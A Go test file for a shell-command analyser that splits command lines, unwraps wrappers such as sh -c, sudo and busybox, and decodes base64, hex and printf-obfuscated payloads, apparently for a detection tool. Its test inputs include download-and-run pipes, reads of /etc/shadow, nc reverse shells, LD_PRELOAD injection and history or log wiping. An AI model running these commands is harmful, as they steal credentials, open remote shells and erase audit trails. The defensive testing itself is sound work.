package shellcmd

import (
	"strings"
	"testing"
)

// summary renders the commands as "argv0 args… [via] <from…" for compact assertions.
func summary(a Analysis) []string {
	var out []string
	for _, c := range a.Commands {
		s := strings.Join(c.Argv, " ")
		if c.Via != "" {
			s += " [" + c.Via + "]"
		}
		out = append(out, s)
	}
	return out
}

func TestAnalyze(t *testing.T) {
	tests := []struct {
		line string
		want []string
	}{
		{"ls -la", []string{"ls -la"}},
		{"cd /tmp && wget http://x/a; sh a || true", []string{"cd /tmp", "wget http://x/a", "sh a", "true"}},
		{"(id; whoami) | tee out", []string{"id", "whoami", "tee out"}},
		{"echo $(cat /etc/shadow)", []string{"echo $(cat /etc/shadow)", "cat /etc/shadow"}},
		{"diff <(sort a) b", []string{"diff <(sort a) b", "sort a"}},
		{"bash -c 'curl -s x | sh'", []string{"bash -c curl -s x | sh", "curl -s x [sh -c]", "sh [sh -c]"}},
		{"sh -ec \"id\"", []string{"sh -ec id", "id [sh -c]"}},
		{"sudo -u root nohup nc -e /bin/sh h 1", []string{"sudo -u root nohup nc -e /bin/sh h 1", "nohup nc -e /bin/sh h 1 [sudo]", "nc -e /bin/sh h 1 [nohup]"}},
		{"env -i A=1 python3 x.py", []string{"env -i A=1 python3 x.py", "python3 x.py [env]"}},
		{"timeout -s 9 5 curl x", []string{"timeout -s 9 5 curl x", "curl x [timeout]"}},
		{"su root -c 'id'", []string{"su root -c id", "id [su]"}},
		{"eval \"$(echo aWQ= | base64 -d)\"", []string{"eval $(echo aWQ= | base64 -d)", "echo aWQ=", "base64 -d", "id [base64]", "$(echo aWQ= | base64 -d) [eval]", "echo aWQ= [eval]", "base64 -d [eval]", "id [base64]"}},
		{"echo aWQ7IHdob2FtaQ== | base64 --decode | sh", []string{"echo aWQ7IHdob2FtaQ==", "base64 --decode", "sh", "id [base64]", "whoami [base64]"}},
		{"echo 6469 | xxd -r -p | sh", []string{"echo 6469", "xxd -r -p", "sh", "di [hex]"}},
		{"echo 'di' | rev | sh", []string{"echo di", "rev", "sh", "id [rev]"}},
		{`printf '\x69\x64' | sh`, []string{`printf \x69\x64`, "sh", "id [printf]"}},
		{"bash <<< 'id'", []string{"bash", "id [stdin]"}},
		{"find . -exec /bin/sh -p \\; -quit", []string{"find . -exec /bin/sh -p ; -quit", "/bin/sh -p [find -exec]"}},
		{"busybox nc 1.2.3.4 80 -e sh", []string{"busybox nc 1.2.3.4 80 -e sh", "nc 1.2.3.4 80 -e sh [busybox]"}},
		{"for f in /var/log/*.log; do : > $f; done", []string{": > $f"}[0:0]},
		{"'unbalanced", nil},
	}
	an := New()
	for _, tt := range tests {
		a := an.Analyze(tt.line)
		got := summary(a)
		if tt.want == nil {
			if a.Parsed || len(got) != 0 {
				t.Errorf("%q: want rejected, got %q", tt.line, got)
			}
			continue
		}
		if len(tt.want) == 0 {
			continue
		}
		if strings.Join(got, " | ") != strings.Join(tt.want, " | ") {
			t.Errorf("%q:\n got  %q\n want %q", tt.line, got, tt.want)
		}
	}
}

func TestEnvRedirectsPipes(t *testing.T) {
	a := New().Analyze("LD_PRELOAD=/tmp/x.so HISTFILE= ls 2>/dev/null | nc h 1 > /tmp/o")
	if len(a.Commands) != 2 {
		t.Fatalf("%+v", a.Commands)
	}
	ls, nc := a.Commands[0], a.Commands[1]
	if strings.Join(ls.Env, ",") != "LD_PRELOAD=/tmp/x.so,HISTFILE=" || len(ls.Redirects) != 1 || ls.Redirects[0] != (Redirect{Op: ">", FD: "2", Target: "/dev/null"}) {
		t.Fatalf("ls %+v", ls)
	}
	if len(nc.PipeFrom) != 1 || nc.PipeFrom[0] != 0 || len(ls.PipeTo) != 1 || !nc.Redirects[0].Writes() {
		t.Fatalf("nc %+v", nc)
	}
	d := New().Analyze("export HISTFILE=/dev/null")
	if len(d.Commands) != 1 || strings.Join(d.Commands[0].Env, ",") != "HISTFILE=/dev/null" {
		t.Fatalf("export %+v", d.Commands)
	}
	g := New().Analyze("{ echo a; } >> ~/.bashrc")
	if len(g.Commands) != 1 || len(g.Commands[0].Redirects) != 1 || g.Commands[0].Redirects[0].Target != "~/.bashrc" {
		t.Fatalf("group redirect %+v", g.Commands)
	}
	b := New().Analyze("> /home/u/.bash_history")
	if len(b.Commands) != 1 || len(b.Commands[0].Argv) != 0 || !b.Commands[0].Redirects[0].Writes() {
		t.Fatalf("bare redirect %+v", b.Commands)
	}
}

func TestLimits(t *testing.T) {
	// nested sh -c beyond MaxDepth stops unwrapping; a long pipeline stops at MaxCommands
	line := "id"
	for i := 0; i < 10; i++ {
		line = "sh -c " + quote(line)
	}
	if n := len(New().Analyze(line).Commands); n > MaxDepth+1 {
		t.Fatalf("%d commands for nested payloads", n)
	}
	if n := len(New().Analyze(strings.Repeat("a|", 200) + "a").Commands); n > MaxCommands {
		t.Fatalf("%d commands", n)
	}
	if a := New().Analyze(strings.Repeat("x", MaxLineBytes+1)); a.Parsed {
		t.Fatal("an over-long line was parsed")
	}
}

func quote(s string) string { return "'" + strings.ReplaceAll(s, "'", `'\''`) + "'" }

func TestResolveImage(t *testing.T) {
	for in, want := range map[string]string{"curl": "/usr/bin/curl", "iptables": "/usr/sbin/iptables", "./x": "./x", "/tmp/a": "/tmp/a", "": ""} {
		if got := ResolveImage(in); got != want {
			t.Errorf("%q: %q", in, got)
		}
	}
}

func FuzzAnalyze(f *testing.F) {
	for _, s := range []string{"ls -la", "echo aWQ= | base64 -d | sh", "bash -c 'a | b'", "sudo -u x env A=1 sh -c \"$(curl x)\"",
		`printf '\x69' | sh`, "find . -exec sh {} +", "{ a; } > f", "a <<EOF\nb\nEOF", "$'\\x41'", "eval eval eval x"} {
		f.Add(s)
	}
	an := New()
	f.Fuzz(func(t *testing.T, line string) {
		a := an.Analyze(line)
		if len(a.Commands) > MaxCommands+MaxDepth*8 {
			t.Fatalf("%d commands", len(a.Commands))
		}
		for i, c := range a.Commands {
			if c.Parent >= i || c.Parent < -1 {
				t.Fatalf("command %d has parent %d", i, c.Parent)
			}
		}
	})
}
